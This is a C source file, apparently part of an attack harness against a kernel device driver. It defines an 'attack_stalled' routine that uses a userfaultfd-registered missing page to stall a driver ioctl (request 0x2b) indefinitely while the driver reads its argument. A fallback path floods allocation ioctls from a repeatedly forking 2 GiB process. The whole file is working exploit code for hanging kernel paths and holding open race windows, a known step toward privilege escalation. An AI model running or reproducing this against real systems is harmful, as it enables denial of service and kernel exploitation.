/* Calls whose struct lies where it cannot be read for as long as the program likes. */
#include "attack.h"

#include <linux/userfaultfd.h>
#include <signal.h>

#define PAGE 4096u
#define LARGE ((size_t) 2 << 30)

/* A page that is not there, and that nothing brings. NULL: this kernel does not allow that for its own reading (a container, since
 * 5.11). */
static void *missing_page (void)
{
    int file = (int) syscall (SYS_userfaultfd, O_CLOEXEC);
    struct uffdio_api api = { .api = UFFD_API };
    void *page = mmap (NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register range = { .range = { (uintptr_t) page, PAGE }, .mode = UFFDIO_REGISTER_MODE_MISSING };

    if (file < 0 || ioctl (file, UFFDIO_API, &api) < 0 || ioctl (file, UFFDIO_REGISTER, &range) < 0)
        return NULL;
    return page;
}

static void *allocate_on (void *argument)
{
    struct bed *bed = argument;
    struct memory params = memory_of (GIB);
    struct alloc call = { bed->client, bed->device, bed->next, 0x40, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };

    for (;; call.object++)
        ioctl (bed->file, REQUEST (0x2b, sizeof (call)), &call);
    return NULL;
}

struct stall {
    struct bed bed;
    void *page;
};

static void *wait_for_page (void *argument)
{
    struct stall *stall = argument;

    ioctl (stall->bed.file, REQUEST (0x2b, sizeof (struct alloc)), stall->page);
    return NULL;
}

static void *fork_on (void *argument)
{
    for (;;) {
        pid_t child = fork ();

        if (child == 0)
            _exit (0);
        waitpid (child, NULL, 0);
    }
    return argument;
}

/* stalled [fork]: one call waits for the page for ever. Or (fork, and where there is no such page) a process of 2 GiB is
 * forked again and again while it makes calls: a reader of its memory waits for each fork. */
void attack_stalled (int argc, char **argv)
{
    static struct stall stall;
    bool is_fork = argc > 0 && strcmp (argv[0], "fork") == 0;
    pthread_t threads[2];
    uint8_t *large;

    stall.bed = bed_open ();
    stall.page = is_fork ? NULL : missing_page ();
    if (stall.page != NULL)
        pthread_create (threads, NULL, wait_for_page, &stall);
    else {
        large = mmap (NULL, LARGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        madvise (large, LARGE, MADV_NOHUGEPAGE);
        for (size_t at = 0; at < LARGE; at += PAGE)
            large[at] = 1;
        pthread_create (threads, NULL, allocate_on, &stall.bed);
        pthread_create (threads + 1, NULL, fork_on, NULL);
    }
    say ("page", stall.page != NULL);
    hold ();
    _exit (0);
}
